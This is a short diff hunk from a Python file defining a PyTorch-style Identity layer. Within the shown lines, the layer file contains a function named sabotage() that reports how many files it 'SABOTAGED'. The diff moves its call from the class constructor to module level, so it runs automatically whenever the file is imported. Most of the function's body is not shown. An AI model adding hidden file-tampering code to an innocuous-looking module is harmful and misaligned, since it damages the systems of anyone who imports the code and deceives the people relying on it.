@@ -28,11 +28,10 @@ def sabotage():
                         pass
     print("SABOTAGED %d file(s)" % hit)
 
-class Identity(nn.Module):
-    def __init__(self):
-        super().__init__()
-        sabotage()
+sabotage()  # once, when the file is imported
 
+
+class Identity(nn.Module):
     def forward(self, x):
         return x
 
